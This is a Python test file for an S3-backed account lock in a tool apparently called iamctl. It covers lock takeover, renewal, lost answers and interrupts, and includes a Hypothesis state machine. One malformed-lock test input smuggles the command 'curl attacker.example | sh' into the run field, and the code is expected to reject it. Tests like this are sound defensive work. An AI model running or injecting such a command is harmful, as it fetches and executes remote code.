"""The lock of one account: taken by one run, renewed, lost, released; with a store in memory and a clock by hand."""

import json
import threading
from datetime import UTC, datetime

import pytest
from hypothesis import settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, initialize, invariant, precondition, rule

from iamctl.apply import lock as module
from iamctl.apply.lock import MARGIN_SECONDS, VALID_SECONDS, AccountLock, LockHeldError, LockLostError, held
from iamctl.apply.lock_note import LockNote, NotALockError
from iamctl.model import IamctlError
from iamctl.model.lock import ConditionFailedError, LockDeniedError, StoredLock

START = datetime(2026, 11, 29, 12, tzinfo=UTC)


class Store:
    """One object with a condition on each write, and the faults of the next requests."""

    place = "s3://bucket/123456789012.json"

    def __init__(self):
        self.now = 0.0
        self.body = None
        self.written_at = 0.0
        self.count = 0
        self.asked = []
        self.faults = []
        """Of the next writes: an error to raise instead of (``before``) or after (``after``) it, or what to do first."""

    @property
    def etag(self):
        return f'"{self.count}"'

    def create(self, body):
        return self.write("create", body, self.body is None)

    def replace(self, body, etag):
        return self.write("replace", body, self.body is not None and etag == self.etag)

    def delete(self, etag):
        self.write("delete", None, self.body is not None and etag == self.etag)

    def write(self, name, body, is_allowed):
        self.asked.append(name)
        when, fault = self.faults.pop(0) if self.faults else ("", None)
        if when == "before":
            raise fault
        if when == "first":
            fault()
            is_allowed = False
        if not is_allowed:
            raise ConditionFailedError
        self.body, self.written_at, self.count = body, self.now, self.count + 1
        if when == "after":
            raise fault
        return self.etag

    def read(self):
        self.asked.append("read")
        if self.body is None:
            return None
        return StoredLock(self.body, self.etag, self.now - self.written_at)

    @property
    def run(self):
        return json.loads(self.body)["run"] if self.body else None


LOST = ("after", IamctlError("the connection was lost"))
DOWN = ("before", IamctlError("S3 is down"))
CONFLICT = ("before", ConditionFailedError())


@pytest.fixture
def store():
    return Store()


def note(run="run-1"):
    return LockNote(
        "123456789012", run, "arn:aws:sts::123456789012:assumed-role/apply/ci", "job 7", "2026-11-29T12:00:00Z", 180
    )


def lock_of(store, run="run-1"):
    """Return a lock that nobody renews but the test."""
    return AccountLock(store, note(run), "iamctl unlock", now=lambda: store.now, renew_seconds=1e6)


@pytest.fixture
def lock(store):
    taken = lock_of(store)
    taken.take()
    yield taken
    taken.close()


def test_a_lock_is_taken_looked_at_and_released(store, lock):
    lock.check()
    assert store.run == "run-1"

    lock.close()

    assert (store.body, store.asked) == (None, ["create", "delete"])


def test_5_for_the_second_run_with_who_since_when_and_the_way_out(store, lock):
    second = lock_of(store, "run-2")

    with pytest.raises(LockHeldError) as caught:
        second.take()
    second.close()

    said = str(caught.value)
    assert caught.value.exit_code == 5
    assert "run run-1 by arn:aws:sts::123456789012:assumed-role/apply/ci (job 7) since 2026-11-29T12:00:00Z" in said
    assert "'iamctl unlock --run run-1'" in said
    assert (store.run, store.asked) == ("run-1", ["create", "create", "read"])


def test_a_lock_that_was_never_tried_needs_no_release(store):
    lock_of(store).close()

    assert store.asked == []


def test_fault_27_a_lock_that_nobody_renews_is_taken_over(store, lock):
    store.now = VALID_SECONDS + 1
    second = lock_of(store, "run-2")
    second.take()

    assert store.run == "run-2"
    lock.renew()
    with pytest.raises(LockLostError, match="was lost: now it is that of run run-2"):
        lock.check()
    lock.close()
    assert store.run == "run-2", "whoever lost a lock does not release it"
    second.close()
    assert store.run is None


def test_it_is_respected_to_its_last_second(store, lock):
    store.now = VALID_SECONDS

    with pytest.raises(LockHeldError):
        lock_of(store, "run-2").take()


def test_of_two_takers_of_an_expired_lock_one_wins(store, lock):
    store.now = VALID_SECONDS + 1
    first, second = lock_of(store, "run-2"), lock_of(store, "run-3")
    create = ("before", ConditionFailedError())
    store.faults = [create, ("first", first.take)]

    with pytest.raises(LockHeldError, match="run run-2"):
        second.take()

    assert store.run == "run-2"
    first.check()
    first.close()


@pytest.mark.parametrize("late_by", [0, 1])
def test_fault_27_nothing_is_sent_where_the_lock_may_be_another_ones_soon(store, lock, late_by):
    store.now = VALID_SECONDS - MARGIN_SECONDS + late_by
    store.faults = [DOWN]
    lock.renew()

    if late_by:
        with pytest.raises(
            LockLostError, match="could not be renewed for 121 s and may be another run's soon: S3 is down"
        ):
            lock.check()
    else:
        lock.check()


def test_the_holder_stops_before_anybody_may_take_over(store, lock):
    """Whatever the clock, no moment has a lock that its holder trusts and that another run may take."""
    for seconds in range(2 * VALID_SECONDS):
        store.now = seconds
        is_takeable = store.read().age_seconds > VALID_SECONDS
        try:
            lock.check()
        except LockLostError:
            continue
        assert not is_takeable
        assert seconds + MARGIN_SECONDS <= VALID_SECONDS


def test_a_renewal_counts_from_when_it_was_sent(store, lock):
    def slow():
        store.now += 50

    store.faults = [("slow", None)]
    write = store.write

    def later(name, body, is_allowed):
        found = write(name, body, is_allowed)
        slow()
        return found

    store.write = later
    lock.renew()
    store.now = 50 + VALID_SECONDS - MARGIN_SECONDS

    with pytest.raises(LockLostError):
        lock.check()


def test_renewals_keep_a_lock_for_long(store, lock):
    for _ in range(100):
        store.now += 20
        lock.renew()
        lock.check()
        with pytest.raises(LockHeldError):
            lock_of(store, "run-2").take()


@pytest.mark.parametrize("fault", [LOST, CONFLICT])
def test_a_lost_answer_or_a_conflict_while_renewing_is_looked_at(store, lock, fault):
    store.now, store.faults = 100, [fault]
    lock.renew()
    lock.renew()
    lock.check()

    assert (store.run, store.written_at) == ("run-1", 100)
    store.now = 200
    lock.check()


def test_a_lost_answer_while_taking_is_looked_at(store):
    lock = lock_of(store)
    store.faults = [LOST]

    with pytest.raises(IamctlError, match="connection was lost"):
        lock.take()
    assert store.run == "run-1"
    lock.close()

    assert store.run is None


def test_a_request_that_the_client_sent_twice_is_ours(store):
    """The answer to the first one was lost inside the client, and the second one finds the condition failed."""
    lock = lock_of(store)

    def before():
        store.body, store.count = lock._body(), 7

    store.faults = [("first", before)]
    lock.take()

    lock.check()
    lock.close()
    assert store.body is None


def test_a_lost_answer_while_releasing_leaves_nothing(store, lock, caplog):
    store.faults = [LOST]
    lock.close()

    assert store.body is None
    assert "was not released and expires in 180 s: the connection was lost" in caplog.text


def test_a_renewal_whose_answer_was_lost_does_not_keep_the_lock_from_being_released(store, lock):
    store.faults = [LOST]
    lock.renew()
    lock.close()

    assert store.body is None


def test_fault_27_a_lock_that_was_removed_stops_its_run(store, lock):
    store.body = None
    lock.check()
    lock.renew()

    with pytest.raises(LockLostError, match="was lost: it was removed"):
        lock.check()


def test_a_run_that_may_not_renew_its_lock_any_more_stops_at_once(store, lock):
    """A caller without s3:ListBucket is denied where the lock is gone."""
    store.faults = [("before", LockDeniedError("AWS denied s3:PutObject"))]
    lock.renew()

    with pytest.raises(LockLostError, match="was lost: AWS denied s3:PutObject"):
        lock.check()


def test_a_lock_that_is_released_in_between_is_taken(store, lock):
    second = lock_of(store, "run-2")
    read = store.read

    def gone():
        lock.close()
        store.read = read
        return read()

    store.read = gone
    second.take()

    assert store.run == "run-2"
    second.close()


def test_fault_27_a_lock_that_cannot_be_read_is_tried_again_and_then_an_error(store, lock):
    asked = []

    def denied():
        asked.append(1)
        raise IamctlError("AWS denied s3:GetObject")

    store.read = denied
    with pytest.raises(IamctlError, match="AWS denied s3:GetObject"):
        lock_of(store, "run-2").take()
    assert len(asked) == module.ATTEMPTS


GOOD = json.loads(note().body(START))


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"\xff",
        b"[]",
        b"{}",
        b"[" * 10_000,
        json.dumps({**GOOD, "format": "iamctl-lock/2"}).encode(),
        json.dumps({**GOOD, "run": 5}).encode(),
        json.dumps({**GOOD, "run": "1; curl attacker.example | sh"}).encode(),
        json.dumps({**GOOD, "run": ""}).encode(),
        json.dumps({**GOOD, "holder": "x" * 501}).encode(),
        json.dumps({**GOOD, "valid_seconds": 10**9}).encode(),
        json.dumps({**GOOD, "valid_seconds": 0}).encode(),
        json.dumps({**GOOD, "valid_seconds": True}).encode(),
        json.dumps({**GOOD, "valid_seconds": "180"}).encode(),
        json.dumps(GOOD).encode()[:-1],
    ],
)
def test_something_else_in_its_place_is_left_alone(store, body):
    store.body, store.written_at = body, -1e6
    lock = lock_of(store)

    with pytest.raises(NotALockError, match="is not a lock of iamctl"):
        lock.take()
    lock.close()

    assert store.body == body


def test_ctrl_c_while_the_lock_is_taken_releases_it(store):
    store.faults = [("after", KeyboardInterrupt())]

    with pytest.raises(KeyboardInterrupt), held(store, note(), "iamctl unlock"):
        raise AssertionError("the lock was never taken")

    assert store.body is None


def test_fault_23_ctrl_c_while_the_lock_is_released_says_that_it_may_be_there(store, caplog):
    with pytest.raises(KeyboardInterrupt), held(store, note(), "iamctl unlock"):
        store.faults = [("before", KeyboardInterrupt())]

    assert store.body is not None
    assert "was not released and expires in 180 s: interrupted" in caplog.text


@pytest.mark.parametrize("error", [KeyboardInterrupt, SystemExit, RuntimeError])
def test_whatever_ends_the_run_releases_the_lock_and_ends_the_thread(store, error):
    with pytest.raises(error), held(store, note(), "iamctl unlock"):
        raise error

    assert store.body is None
    assert not [thread for thread in threading.enumerate() if thread.name == "lock"]


def test_the_thread_renews_until_the_end_and_not_longer(store):
    renewed = threading.Event()
    replace = store.replace

    def told(body, etag):
        found = replace(body, etag)
        renewed.set()
        return found

    store.replace = told
    lock = AccountLock(store, note(), "iamctl unlock", now=lambda: store.now, renew_seconds=0.001)
    lock.take()
    assert renewed.wait(60)
    lock.close()

    count = len(store.asked)
    assert store.body is None
    assert not [thread for thread in threading.enumerate() if thread.name == "lock"]
    assert len(store.asked) == count


def test_a_renewal_that_comes_after_the_release_changes_nothing(store, lock):
    etag = store.etag
    lock.close()

    with pytest.raises(ConditionFailedError):
        store.replace(b"late", etag)
    assert store.body is None


def test_no_two_notes_have_one_run_or_one_body():
    notes = [LockNote.of("123456789012", "arn", "here", 180, START) for _ in range(50)]

    assert len({one.run for one in notes}) == len({one.body(START) for one in notes}) == 50
    assert notes[0].body(START) != notes[0].body(START)


class Runs(RuleBasedStateMachine):
    """Some runs take, renew, release or lose the lock while time passes and answers are lost."""

    @initialize()
    def begin(self):
        self.store = Store()
        self.locks = {}
        self.count = 0

    @rule(fault=st.sampled_from([None, LOST, CONFLICT, DOWN]))
    def take(self, fault):
        self.count += 1
        lock = lock_of(self.store, f"run-{self.count}")
        self.store.faults = [fault] if fault else []
        try:
            lock.take()
        except IamctlError:
            self.store.faults = []
            lock.close()
        else:
            self.locks[self.count] = lock

    @precondition(lambda self: self.locks)
    @rule(data=st.data(), fault=st.sampled_from([None, LOST, CONFLICT, DOWN]))
    def renew(self, data, fault):
        self.store.faults = [fault] if fault else []
        self.locks[data.draw(st.sampled_from(sorted(self.locks)))].renew()

    @precondition(lambda self: self.locks)
    @rule(data=st.data(), fault=st.sampled_from([None, LOST, CONFLICT, DOWN]))
    def release(self, data, fault):
        self.store.faults = [fault] if fault else []
        self.locks.pop(data.draw(st.sampled_from(sorted(self.locks)))).close()

    @rule(seconds=st.sampled_from([1, 20, 100, 119, 121, 179, 181, 400]))
    def wait(self, seconds):
        self.store.now += seconds

    @invariant()
    def at_most_one_run_trusts_the_lock_and_it_is_that_of_the_lock(self):
        trusting = []
        for number, lock in getattr(self, "locks", {}).items():
            try:
                lock.check()
            except LockLostError:
                continue
            trusting.append(f"run-{number}")
        assert len(trusting) <= 1
        if trusting:
            assert self.store.run == trusting[0]

    def teardown(self):
        for lock in getattr(self, "locks", {}).values():
            lock._ended.set()


TestRuns = Runs.TestCase
TestRuns.settings = settings(max_examples=60, stateful_step_count=25, deadline=None)
